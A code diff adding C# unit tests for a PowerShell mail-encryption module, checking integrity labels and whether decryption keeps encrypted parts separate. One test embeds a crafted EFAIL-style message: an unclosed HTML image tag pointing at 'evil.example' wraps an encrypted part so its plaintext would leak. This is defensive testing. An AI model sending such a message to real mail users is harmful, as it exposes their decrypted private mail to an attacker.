@@ -226,6 +226,32 @@ public sealed class ProtectMailMessageTests : ProtectionTest
     }
 
     [Theory]
+    [InlineData("$Message", "NotEncrypted")]
+    [InlineData("$Message | Protect-MailMessage -Encrypt -Recipient $Bob, $Alice", "Alterable")]
+    [InlineData("$Message | Protect-MailMessage -Signer $Alice -Recipient $Bob", "Signed")]
+    [InlineData("$Message | Protect-MailMessage -Encrypt -Recipient $Bob, $Alice -Policy Modern", "Authenticated")]
+    public void Opening_tells_whether_it_could_have_been_altered(string script, string expected)
+    {
+        var opened = Mail($"{script} | Unprotect-MailMessage -Certificate $Bob");
+        Assert.Equal(expected, opened.Single.Properties["Integrity"].Value.ToString());
+        Assert.Empty(opened.Warnings);
+    }
+
+    /// <summary>What comes out in files is what stood there: nothing of a part's text gets among what somebody put around it.</summary>
+    [Fact]
+    public void A_part_is_not_written_among_what_stands_around_it()
+    {
+        var part = Text(Mail("$Message | Protect-MailMessage -Encrypt -Recipient $Bob, $Alice").Single);
+        var raw = "From: mallory@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=w\r\n\r\n--w\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--w\r\n"
+            + part[part.IndexOf("Content-Type: application", StringComparison.Ordinal)..] + "\r\n--w\r\nContent-Type: text/html\r\n\r\n\">\r\n--w--\r\n";
+        var opened = Mail("$Raw | Unprotect-MailMessage -Certificate $Bob -OutputPath $Folder/out.eml; $global:opened = $Raw | Unprotect-MailMessage -Certificate $Bob; $opened | Export-MailMessage $Folder/exported.eml; $opened", ("Raw", raw));
+        foreach (var file in new[] { "out.eml", "exported.eml" }) Assert.Equal(raw, File.ReadAllText(Path.Combine(Folder, file)));
+        var inner = PSObject.AsPSObject(((Array)opened.Output[^1].Properties["Parts"].Value).GetValue(0));
+        Assert.Equal("Alterable", inner.Properties["Integrity"].Value.ToString());
+        Assert.Contains("Meet me at nine.", Text(inner));
+    }
+
+    [Theory]
     [InlineData("$Message | Protect-MailMessage -Encrypt -Recipient $Bob, $Alice | Unprotect-MailMessage -Certificate $Carol", "NoMatchingKey")]
     [InlineData("$Message | Protect-MailMessage -Encrypt -Recipient $Bob, $Alice | Unprotect-MailMessage -Certificate $Bob -MaximumSize 10", "ContentTooLarge")]
     [InlineData("$Message | Unprotect-MailMessage -MaximumSize 0", "ParameterArgumentValidationError")]
